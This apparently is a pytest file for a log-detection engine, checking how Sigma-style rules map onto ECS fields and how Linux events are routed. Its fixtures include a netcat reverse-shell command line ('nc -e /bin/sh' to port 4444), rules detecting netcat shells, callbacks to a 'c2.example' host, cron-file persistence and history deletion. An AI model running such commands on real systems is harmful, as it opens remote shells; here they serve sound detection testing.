"""The Linux->ECS pipeline (rules/pipelines/linux-ecs.yml) and the routing table, on wire-shaped events."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from collector.detection import DetectionEngine, LogSource, PipelineLoadError, Route, RoutingTable
from collector.detection.routing import LINUX_ECS_ROUTING
from tests.unit.collector.detection.detection_helpers import (
    LINUX_ECS_PIPELINE,
    engine_for,
    process_event,
    rule_text,
    titles,
)

SYSMON_PROCESS_RULE = rule_text(
    """
    sel:
      Image|endswith: /nc
      CommandLine|contains: ' -e '
      ParentImage|endswith: /bash
      ParentCommandLine|contains: interactive
      User: root
      LogonId: 0
      CurrentDirectory|startswith: /tmp
    condition: sel
    """,
    title="sysmon names",
)


def full_process_event() -> dict[str, Any]:
    event = process_event(
        executable="/usr/bin/nc",
        command_line="nc -e /bin/sh 10.0.0.1 4444",
        working_directory="/tmp/work",
        user={"name": "root", "id": "0"},
        parent={"executable": "/usr/bin/bash", "command_line": "bash --interactive"},
    )
    event["user"] = {"name": "root"}
    return event


def test_process_creation_fields_are_mapped_to_ecs(tmp_path: Path) -> None:
    engine = engine_for(tmp_path, SYSMON_PROCESS_RULE, pipeline=LINUX_ECS_PIPELINE)
    assert engine.errors == []
    event = full_process_event()
    assert titles(engine, event) == ["sysmon names"]
    event["process"]["user"]["id"] = "1000"
    assert titles(engine, event) == []


def test_without_pipeline_sysmon_names_find_nothing_in_ecs_events(tmp_path: Path) -> None:
    engine = engine_for(tmp_path, SYSMON_PROCESS_RULE)
    assert engine.errors == []
    assert titles(engine, full_process_event()) == []


def file_event(path: str, action: str = "creation", executable: str | None = None) -> dict[str, Any]:
    event: dict[str, Any] = {
        "event": {"id": "f1", "dataset": "canhgac.file", "action": action},
        "file": {"path": path, "name": path.rsplit("/", 1)[-1]},
    }
    if executable:
        event["process"] = {"executable": executable}
    return event


def test_file_event_fields_and_routes(tmp_path: Path) -> None:
    created = rule_text(
        "sel:\n  TargetFilename|startswith: /etc/cron.d/\ncondition: sel",
        logsource="product: linux\ncategory: file_event",
        title="cron file",
    )
    deleted = rule_text(
        "sel:\n  TargetFilename|endswith: .bash_history\ncondition: sel",
        logsource="product: linux\ncategory: file_delete",
        title="history deleted",
    )
    engine = engine_for(tmp_path, created, deleted, pipeline=LINUX_ECS_PIPELINE)
    assert engine.errors == []
    assert titles(engine, file_event("/etc/cron.d/evil")) == ["cron file"]
    assert titles(engine, file_event("/etc/cron.d/evil", action="modification")) == ["cron file"]
    assert titles(engine, file_event("/etc/cron.d/evil", action="deletion")) == []
    assert titles(engine, file_event("/root/.bash_history", action="deletion")) == ["history deleted"]
    assert titles(engine, file_event("/root/.bash_history", action="creation")) == []


def test_network_connection_fields_and_initiated_value(tmp_path: Path) -> None:
    rule = rule_text(
        """
        sel:
          Initiated: 'true'
          DestinationPort: 4444
          DestinationIp|cidr: 10.0.0.0/8
          DestinationHostname|endswith: .example
          Image|endswith: /nc
        condition: sel
        """,
        logsource="product: linux\ncategory: network_connection",
        title="callback",
    )
    engine = engine_for(tmp_path, rule, pipeline=LINUX_ECS_PIPELINE)
    assert engine.errors == []
    event: dict[str, Any] = {
        "event": {"id": "n1", "dataset": "canhgac.network", "action": "connection_attempted"},
        "network": {"direction": "egress"},
        "destination": {"ip": "10.1.2.3", "port": 4444, "domain": "c2.example"},
        "process": {"executable": "/usr/bin/nc"},
    }
    assert titles(engine, event) == ["callback"]
    event["network"]["direction"] = "ingress"
    assert titles(engine, event) == []


def auth_event(message: str, dataset: str = "canhgac.authentication") -> dict[str, Any]:
    return {"event": {"id": "a1", "dataset": dataset, "action": "ssh_login"}, "message": message}


@pytest.mark.parametrize("service", ["sshd", "auth", "sudo", "su", "syslog", "cron"])
def test_linux_services_route_to_authentication_events(tmp_path: Path, service: str) -> None:
    rule = rule_text(
        "keywords:\n  - 'session opened'\ncondition: keywords",
        logsource=f"product: linux\nservice: {service}",
    )
    engine = engine_for(tmp_path, rule, pipeline=LINUX_ECS_PIPELINE)
    assert engine.errors == []
    assert engine.match(auth_event("pam_unix: session opened for user root"))
    assert not engine.match(process_event(command_line="session opened"))


def test_product_only_rule_joins_every_linux_route(tmp_path: Path) -> None:
    rule = rule_text("keywords:\n  - 'needle'\ncondition: keywords", logsource="product: linux")
    engine = engine_for(tmp_path, rule, pipeline=LINUX_ECS_PIPELINE)
    (compiled,) = engine.rules
    assert {route.name for route in LINUX_ECS_ROUTING.routes_for_rule(compiled.logsource)} == {
        route.name for route in LINUX_ECS_ROUTING.routes
    }
    assert engine.match(auth_event("a needle here"))


def test_rules_meet_only_events_of_their_route(tmp_path: Path) -> None:
    process_rule = rule_text("sel:\n  message|contains: boom\ncondition: sel", title="process")
    windows_rule = rule_text(
        "sel:\n  message|contains: boom\ncondition: sel",
        logsource="product: windows\ncategory: process_creation",
        title="windows",
    )
    engine = engine_for(tmp_path, process_rule, windows_rule)
    exec_event = process_event()
    exec_event["message"] = "boom"
    assert titles(engine, exec_event) == ["process"]
    exec_event["event"]["action"] = "end"
    assert titles(engine, exec_event) == []  # process_creation rules do not see process ends
    assert titles(engine, auth_event("boom")) == []
    assert titles(engine, auth_event("boom", dataset="canhgac.heartbeat")) == []
    assert [rule.title for rule in engine.unrouted_rules] == ["windows"]


def test_custom_routing_table(tmp_path: Path) -> None:
    routing = RoutingTable(
        [Route("win_proc", "windows.process", None, (LogSource("windows", "process_creation"),))]
    )
    rule = rule_text(
        "sel:\n  Image|endswith: '\\cmd.exe'\ncondition: sel",
        logsource="product: windows\ncategory: process_creation",
    )
    engine = engine_for(tmp_path, rule, routing=routing)
    event = {"event": {"dataset": "windows.process"}, "Image": "C:\\Windows\\System32\\CMD.EXE"}
    assert engine.match(event)
    assert not engine.match(
        {"event": {"dataset": "canhgac.process", "action": "exec"}, "Image": "x\\cmd.exe"}
    )


def test_first_route_of_a_dataset_taking_the_action_wins() -> None:
    linux = (LogSource("linux"),)
    table = RoutingTable(
        [
            Route("exec", "proc", frozenset({"exec"}), linux),
            Route("proc any", "proc", None, linux),
            Route("end", "proc", frozenset({"end", "exec"}), linux),  # after "proc any": never chosen
            Route("auth any", "auth", None, linux),
            Route("auth fail", "auth", frozenset({"fail"}), linux),  # after "auth any": never chosen
        ]
    )

    def name(meta: Any) -> str | None:
        route = table.route_for({"event": meta})
        return None if route is None else route.name

    assert name({"dataset": "proc", "action": "exec"}) == "exec"
    assert name({"dataset": "proc", "action": "end"}) == "proc any"
    assert name({"dataset": "proc"}) == "proc any"
    assert name({"dataset": "proc", "action": ["exec"]}) == "proc any"  # not a string: no action
    assert name({"dataset": "auth", "action": "fail"}) == "auth any"
    assert name({"dataset": "other", "action": "exec"}) is None
    assert name({"dataset": ["proc"], "action": "exec"}) is None
    assert name("not an object") is None
    exec_only = RoutingTable([Route("exec", "proc", frozenset({"exec"}), linux)])
    assert exec_only.route_for({"event": {"dataset": "proc", "action": "end"}}) is None
    assert exec_only.route_for({"event": {"dataset": "proc", "action": {"x": 1}}}) is None


def test_routing_table_rejects_duplicate_names() -> None:
    route = Route("same", "d", None, (LogSource("linux"),))
    with pytest.raises(ValueError, match="unique"):
        RoutingTable([route, route])


def test_broken_pipeline_is_a_clear_error(tmp_path: Path) -> None:
    pipeline = tmp_path / "bad.yml"
    pipeline.write_text("transformations:\n  - type: no_such_transformation\n", encoding="utf-8")
    with pytest.raises(PipelineLoadError, match=r"bad\.yml"):
        DetectionEngine.from_paths([tmp_path], pipeline)


def test_engine_satisfies_the_detector_protocol(tmp_path: Path) -> None:
    from collector.detection import Detector

    detector: Detector = engine_for(tmp_path, rule_text("sel:\n  process.name: sh\ncondition: sel"))
    event = process_event(name="sh")
    before = repr(event)
    assert [match.rule.title for match in detector.match(event)] == ["test rule"]
    assert repr(event) == before  # matching never mutates the event


def test_pipeline_maps_field_references_too(tmp_path: Path) -> None:
    rule = rule_text("sel:\n  Image|fieldref: ParentImage\ncondition: sel", title="same image")
    engine = engine_for(tmp_path, rule, pipeline=LINUX_ECS_PIPELINE)
    assert engine.errors == []
    same = process_event(executable="/bin/sh", parent={"executable": "/bin/sh"})
    different = process_event(executable="/bin/sh", parent={"executable": "/bin/bash"})
    assert titles(engine, same) == ["same image"]
    assert titles(engine, different) == []
